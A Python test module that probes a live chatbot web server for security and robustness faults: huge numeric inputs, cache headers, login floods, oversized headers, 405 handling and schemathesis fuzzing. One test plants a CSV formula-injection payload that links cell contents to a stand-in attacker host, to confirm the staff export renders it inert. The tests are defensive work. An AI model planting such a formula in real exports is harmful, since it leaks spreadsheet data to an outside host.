"""Issue 14 findings probed against a real `policybot serve` on loopback (not the app in-process):
numbers beyond float range (and ids past 64 bits in staff addresses), HEAD on health and static
routes, staff pages never cached, the staff CSV export's formula cells, a login flood held by the
bounded password verification, heads past 64 KB, and what schemathesis (all checks, stateful) found
against the real server: `Allow` on 405, a session id that names no conversation."""

from __future__ import annotations

import re
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from sqlalchemy import text

from bot.db import make_engine
from knowledge.kb import KnowledgeBase
from tests.postgres import free_port
from tests.scaleout.replicas import Replica, replica_env, staffed_replica

from ..databases import Databases

OTHER_SESSIONS = (
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = :db AND pid <> pg_backend_pid()"
)
STAFF = ("probe-admin", "a-long-probe-password-1")
CSRF = re.compile(r'name="csrf" value="([^"]+)"')


@pytest.fixture(scope="module")
def server(kb: KnowledgeBase, kb_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Replica]:
    root = tmp_path_factory.mktemp("live-probes")
    env = replica_env(kb_dir, f"sqlite:///{root / 'policybot.sqlite3'}", POLICYBOT_WEB_LOGIN_RATE_LIMIT="")
    with staffed_replica("live-probes", env, root, STAFF) as replica:
        yield replica


def logged_in(server: Replica) -> tuple[httpx.Client, str]:
    client = httpx.Client(base_url=server.url, timeout=30)
    token = CSRF.search(client.get("/staff/login").text)
    assert token
    done = client.post("/staff/login", data={"name": STAFF[0], "password": STAFF[1], "csrf": token.group(1)})
    assert done.status_code in {200, 303}, done.text[:300]
    csrf = CSRF.search(client.get("/staff").text)
    assert csrf
    return client, csrf.group(1)


def test_a_number_of_four_hundred_digits_is_a_chinese_422_not_a_server_error(server: Replica) -> None:
    body = '{"region": "长春", "age": ' + "9" * 400 + ', "ui_years": -' + "1" * 330 + "}"
    response = httpx.post(
        f"{server.url}/api/check", content=body, headers={"Content-Type": "application/json"}, timeout=30
    )
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "bad_profile" and "年龄" in response.json()["error"]
    assert "Traceback" not in server.log.read_text(errors="replace")


def test_health_and_static_routes_answer_head_without_a_body(server: Replica) -> None:
    for path in ("/healthz", "/readyz", "/widget.js"):
        response = httpx.head(f"{server.url}{path}", timeout=30)
        assert response.status_code == 200, path
        assert response.content == b"", path


def test_staff_pages_and_the_export_are_never_cached(server: Replica) -> None:
    client, _ = logged_in(server)
    try:
        for path in ("/staff/login", "/staff", "/staff/answers", "/staff/export/answers.csv"):
            assert "no-store" in client.get(path).headers.get("cache-control", ""), path
    finally:
        client.close()


def test_a_formula_planted_through_the_api_is_inert_in_the_staff_export(server: Replica) -> None:
    planted = '=HYPERLINK("http://evil.example/?"&A1,"长春创业补贴")'
    assert httpx.post(f"{server.url}/api/ask", json={"question": planted}, timeout=30).status_code == 200
    client, _ = logged_in(server)
    exported = ""
    try:
        for _ in range(50):  # the answer log is written behind the answer
            exported = client.get("/staff/export/answers.csv").content.decode("utf-8-sig")
            if "HYPERLINK" in exported:
                break
            time.sleep(0.2)
    finally:
        client.close()
    cells = [cell.strip('"') for line in exported.splitlines() for cell in line.split(",")]
    assert any("HYPERLINK" in cell for cell in cells), "the question was exported"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells if "HYPERLINK" in cell)


def test_a_login_flood_is_refused_by_the_bounded_password_checks_with_retry_after(server: Replica) -> None:
    """Each argon2id check takes 64 MiB: at most a few run at once; the rest get 429 and Retry-After,
    and other people's questions are still answered meanwhile."""

    def attempt(number: int) -> httpx.Response:
        with httpx.Client(base_url=server.url, timeout=60) as client:
            token = CSRF.search(client.get("/staff/login").text)
            assert token
            form = {"name": f"flood-{number}", "password": "wrong password", "csrf": token.group(1)}
            return client.post("/staff/login", data=form)

    with ThreadPoolExecutor(max_workers=24) as pool:
        flood = [pool.submit(attempt, n) for n in range(48)]
        asked = httpx.post(f"{server.url}/api/ask", json={"question": "长春创业补贴多少钱"}, timeout=60)
        responses = [f.result() for f in flood]
    statuses = [r.status_code for r in responses]
    assert set(statuses) <= {401, 429}, statuses
    busy = [r for r in responses if r.status_code == 429]
    assert busy, "the flood was never held back"
    assert all("登录的人太多" in r.text and int(r.headers["retry-after"]) >= 1 for r in busy)
    assert asked.status_code == 200 and asked.json()["status"] == "answered"


def test_a_server_started_while_the_vector_store_is_down_answers_from_the_lexical_index(
    kb: KnowledgeBase, kb_dir: Path, tmp_path: Path
) -> None:
    nowhere = f"http://127.0.0.1:{free_port()}"
    env = replica_env(kb_dir, f"sqlite:///{tmp_path / 'policybot.sqlite3'}", chroma_url=nowhere)
    replica = Replica("no-chroma", env, tmp_path)
    replica.start()
    try:
        ready = httpx.get(f"{replica.url}/readyz", timeout=30)
        assert ready.status_code == 200 and ready.json()["status"] == "degraded", ready.text
        asked = httpx.post(f"{replica.url}/api/ask", json={"question": "长春创业补贴多少钱"}, timeout=60)
        assert asked.status_code == 200 and asked.json()["status"] == "answered"
    finally:
        replica.stop()


def test_readyz_says_not_ready_while_the_database_refuses_writes_and_ready_after(
    kb: KnowledgeBase, kb_dir: Path, databases: Databases, tmp_path: Path
) -> None:
    """M3: a database that opens but cannot store a turn (here a PostgreSQL made read-only; an SQLite
    file on a read-only or full volume is tests/security/test_live_faults.py) is not ready."""
    url = databases.new_url()
    if not url.startswith("postgresql"):
        pytest.skip("PostgreSQL only: SQLite on a read-only or full volume is tests/security/test_live_faults.py")
    replica = Replica("read-only", replica_env(kb_dir, url), tmp_path)
    replica.start()
    admin = make_engine(url)
    database = admin.url.database
    try:
        assert httpx.get(f"{replica.url}/readyz", timeout=30).status_code == 200
        with admin.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
            connection.execute(text(f'ALTER DATABASE "{database}" SET default_transaction_read_only = on'))
            connection.execute(text(OTHER_SESSIONS), {"db": database})
        ready = httpx.get(f"{replica.url}/readyz", timeout=30)
        for _ in range(20):
            if ready.status_code == 503:
                break
            time.sleep(0.5)
            ready = httpx.get(f"{replica.url}/readyz", timeout=30)
        assert ready.status_code == 503 and ready.json()["checks"]["database"] is False, ready.text
        turn = httpx.post(f"{replica.url}/api/chat", json={"message": "我在长春"}, timeout=30)
        assert turn.status_code == 503 and turn.json()["code"] == "database_unavailable", turn.text
        assert httpx.get(f"{replica.url}/healthz", timeout=30).status_code == 200, "alive, just not ready"
        with admin.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
            connection.execute(text("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"))
            connection.execute(text(f'ALTER DATABASE "{database}" SET default_transaction_read_only = off'))
            connection.execute(text(OTHER_SESSIONS), {"db": database})
        again = httpx.get(f"{replica.url}/readyz", timeout=30)
        assert again.status_code == 200, again.text
    finally:
        admin.dispose()
        replica.stop()


def test_ids_past_what_the_database_stores_in_staff_addresses_are_refused_not_a_server_error(server: Replica) -> None:
    """An answer or citation id of 400 digits reached SQLite (OverflowError) and was a 500 with two
    tracebacks; now every id a page's address names is bounded (422), a small unknown one is 404."""
    client, csrf = logged_in(server)
    huge, negative = "7" * 400, "-" + "3" * 30
    try:
        answers = [client.get(f"/staff/answers/{n}") for n in (huge, negative)]
        noted = client.get(f"/staff/answers/1?note_for={huge}")
        marks = [
            client.post(f"/staff/citations/{huge}/{kind}", data={"csrf": csrf, "status": "flagged", "note": "x"})
            for kind in ("mark", "verdict")
        ]
        unknown = client.get("/staff/answers/987654321")
    finally:
        client.close()
    statuses = [r.status_code for r in (*answers, noted, *marks)]
    assert statuses == [422] * 5, statuses
    assert unknown.status_code == 404
    assert "OverflowError" not in server.log.read_text(errors="replace")


def _raw_reply(server: Replica, request: bytes) -> bytes:
    address = urlsplit(server.url)
    with socket.create_connection((address.hostname, address.port), timeout=30) as raw:
        raw.sendall(request)
        chunks = []
        while chunk := raw.recv(65536):
            chunks.append(chunk)
            if b"\r\n\r\n" in b"".join(chunks) and b"connection: close" not in b"".join(chunks).lower():
                break
    return b"".join(chunks)


@pytest.mark.parametrize("kilobytes", [65, 100])
def test_a_head_past_64_kb_that_arrives_at_once_is_refused_with_431(server: Replica, kilobytes: int) -> None:
    """h11 bounds only what it buffers before a head is complete: a 100 KB header sent at once was
    parsed and answered 200. The app measures the head it got and refuses it like too many headers."""
    big = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: " + b"a" * (kilobytes * 1024) + b"\r\n\r\n"
    reply = _raw_reply(server, big)
    assert reply.startswith(b"HTTP/1.1 431"), reply[:200]
    assert "请求头太大了（上限 64 KB）".encode() in reply and b'"headers_too_large"' in reply
    within = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nX-Big: " + b"a" * 60_000 + b"\r\n\r\n"
    assert _raw_reply(server, within).startswith(b"HTTP/1.1 200")


def test_a_405_names_every_method_of_the_resource_the_path_names(server: Replica) -> None:
    """Schemathesis' unsupported-method check against the real server: `Allow` named only the first
    route whose path matched (/healthz said HEAD), and /api/chat/new was read as the transcript of a
    session named "new" (GET → 422, OPTIONS → Allow: GET)."""
    cases = [
        ("OPTIONS", "/healthz", "GET, HEAD"),
        ("DELETE", "/api/ask", "POST"),
        ("OPTIONS", "/api/chat/new", "POST"),
        ("GET", "/api/chat/new", "POST"),
        ("PUT", "/api/chat/AbCdEfGhIjKlMnOpQrSt", "GET"),
    ]
    for method, path, allow in cases:
        response = httpx.request(method, f"{server.url}{path}", timeout=30)
        assert response.status_code == 405, (method, path, response.status_code)
        assert response.headers.get_list("allow") == [allow], (method, path)
        assert response.json()["code"] == "method_not_allowed"


def test_the_session_id_given_with_a_refused_button_names_a_conversation(server: Replica) -> None:
    """Schemathesis' stateful run: a button no reply offered, pressed with no conversation, got the
    stale-button notice and a new `session_id` that GET /api/chat/{id} did not know (404)."""
    pressed = httpx.post(f"{server.url}/api/chat", json={"choice": "6", "turn_id": "t-1"}, timeout=30)
    assert pressed.status_code == 200 and pressed.json()["replies"][0]["kind"] == "notice"
    session_id = pressed.json()["session_id"]
    transcript = httpx.get(f"{server.url}/api/chat/{session_id}", timeout=30)
    assert transcript.status_code == 200, transcript.text
    assert [e["reply"]["kind"] for e in transcript.json()["entries"]] == ["notice"]
    # The conversation goes on under that id (not another fresh one).
    asked = httpx.post(f"{server.url}/api/chat", json={"session_id": session_id, "message": "你好"}, timeout=30)
    assert asked.status_code == 200 and asked.json()["session_id"] == session_id


def test_schemathesis_with_all_checks_passes_against_the_real_server(server: Replica, tmp_path: Path) -> None:
    """schemathesis' own command line, as a prober runs it: every check, every phase (examples,
    coverage, fuzzing, stateful links between operations), against `policybot serve` over HTTP —
    bounded (15 examples an operation, a fixed seed). In process (test_schema_fuzz.py) it passed while
    this run found three failures (the two tests above)."""
    done = subprocess.run(
        [sys.executable, "-m", "schemathesis.cli", "run", f"{server.url}/openapi.json", "--checks", "all",
         "--max-examples", "15", "--seed", "29", "--workers", "1", "--request-timeout", "30",
         "--generation-database", "none", "--no-color"],
        capture_output=True, text=True, encoding="utf-8", cwd=tmp_path, timeout=600, check=False,
    )  # fmt: skip
    summary = done.stdout[done.stdout.rfind("SUMMARY") :]
    assert done.returncode == 0, done.stdout[-4000:]
    assert "Tested: 10" in summary and " passed" in summary, summary
    assert "Traceback" not in server.log.read_text(errors="replace")
